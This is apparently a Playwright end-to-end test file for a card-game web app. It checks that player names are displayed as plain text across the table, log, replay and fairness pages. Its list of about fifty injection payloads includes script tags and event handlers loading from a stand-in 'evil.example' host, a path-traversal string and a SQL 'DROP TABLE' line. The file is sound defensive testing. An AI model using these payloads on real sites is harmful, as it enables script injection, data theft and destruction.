import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { plain } from './plain.ts'
import { Player } from './player.ts'
import { aBot, aPerson, finishedGame, gameUntil, goTo, openRecord, race } from './records.ts'
import { visiting } from './visiting.ts'

/** Names with which a player might attack the page. All of them are shown as text, none takes effect. */
const payloads = [
  '<script>hit()</script>',
  '<script src=//evil.example/x.js></script>',
  '</title><script>hit()</script>',
  '</script><script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img src=x onerror="hit()"//',
  '"><img src=x onerror=hit()>',
  "'><img src=x onerror=hit()>",
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x>',
  '</svg><svg onload=hit()>',
  '</text></svg><img src=x onerror=hit()>',
  '<svg><use href="//evil.example/#x"/></svg>',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<iframe src="javascript:parent.hit()">',
  '<object data="javascript:hit()">',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css"</style>',
  '<style>*{display:none!important}</style>',
  '<body onload=hit()>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()>',
  '<marquee onstart=hit()>',
  '<form action="javascript:hit()"><button>',
  '<a href="javascript:hit()">x</a>',
  '<template><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<x onclick=hit() onmouseover=hit() tabindex=1>',
  '" onmouseover="hit()" x="',
  "' autofocus onfocus='hit()' x='",
  '" style="position:fixed;inset:0;background:red',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '{{constructor.constructor("hit()")()}}',
  '#{hit()}',
  '<%= hit() %>',
  '%3Cimg src=x onerror=hit()%3E',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '\\u003cimg src=x onerror=hit()\\u003e',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  "'; DROP TABLE tables; --",
] as const

/** Four names at a time, one for each seat at a table. */
const tables = payloads.flatMap((_, index) => (index % 4 === 0 ? [payloads.slice(index, index + 4)] : []))

const raceOf = (names: readonly string[]) =>
  race(...names.map((name, seat) => (seat === 0 ? aPerson(name) : aBot(name))))

describe('names that try to be markup or code', () => {
  it(
    'are read and not done, at the bar, the table, the replay and the proof',
    visiting({}, async ({ page }) => {
      await countHits(page)
      for (const [index, names] of tables.entries()) {
        const id = await openRecord(
          page,
          gameUntil({ ...raceOf(names), number: index + 1 }, (_, { entries }) => entries.length > 4),
        )
        await isRead(page, names, '.player-called')
        await isRead(page, names.slice(0, 1), '.log')
        await goTo(page, `/replay/${id}?at=3`)
        await isRead(page, names, '.replay .player-called')
        await goTo(page, `/fairness/${id}`)
        await isRead(page, names, '.fair-share')
      }
      const [names = []] = tables
      await openRecord(page, finishedGame({ ...raceOf(names), number: tables.length + 1 }))
      await isRead(page, names, '.result-name')
      await goTo(page, '/')
      await isRead(page, payloads, '.saved-table-seats li')
      expect(await hits(page)).toBe(0)
    }),
  )

  it(
    'typed at the table are read there, in the title and in the log',
    visiting({}, async ({ page }) => {
      await countHits(page)
      const evil = '<img src=x onerror=hit()>'.slice(0, 24)
      await goTo(page, '/play/super-teams')
      const name = page.getByRole('group', { name: 'Seat 1' }).getByRole('textbox', { name: 'Name' })
      await name.fill(evil)
      await page.getByRole('button', { name: 'Start the game' }).click()
      const player = new Player(page)
      await player.playOn(({ choices }) => choices > 4)
      await isRead(page, [evil], '.player-called')
      await expect.poll(() => page.title()).toContain(evil)
      await expect.poll(async () => (await player.log()).join('\n')).toContain(evil)
      expect(await hits(page)).toBe(0)
    }),
  )

  it(
    'lose what cannot be seen and what turns the writing round',
    visiting({}, async ({ page }) => {
      await goTo(page, '/play/super-teams')
      const name = page.getByRole('group', { name: 'Seat 1' }).getByRole('textbox', { name: 'Name' })
      await name.fill('\u202eA\u200bl\u2066a\u0000\u2069')
      await page.getByRole('button', { name: 'Start the game' }).click()
      await new Player(page).settled()
      await isRead(page, ['Ala'], '.player[data-viewer] .player-called')
    }),
  )
})

async function countHits(page: Page): Promise<void> {
  await page.evaluate(() => {
    Object.assign(window, { hits: 0, hit: () => Object.assign(window, { hits: 1 }) })
  })
}

async function hits(page: Page): Promise<unknown> {
  return await page.evaluate(() => Reflect.get(window, 'hits'))
}

/** The names are displayed letter by letter, and none of them has become an element. */
async function isRead(page: Page, names: readonly string[], where: string): Promise<void> {
  const unread = async () => {
    const shown = (await page.locator(where).allTextContents()).map(plain)
    return names.filter((name) => !shown.some((text) => text.includes(plain(name))))
  }
  await expect.poll(unread, { message: where }).toEqual([])
  const strangers = 'script:not([src]), iframe, object, embed, base, marquee, math, video, audio, x, img'
  expect(await page.locator(`#root :is(${strangers})`).count()).toBe(0)
}
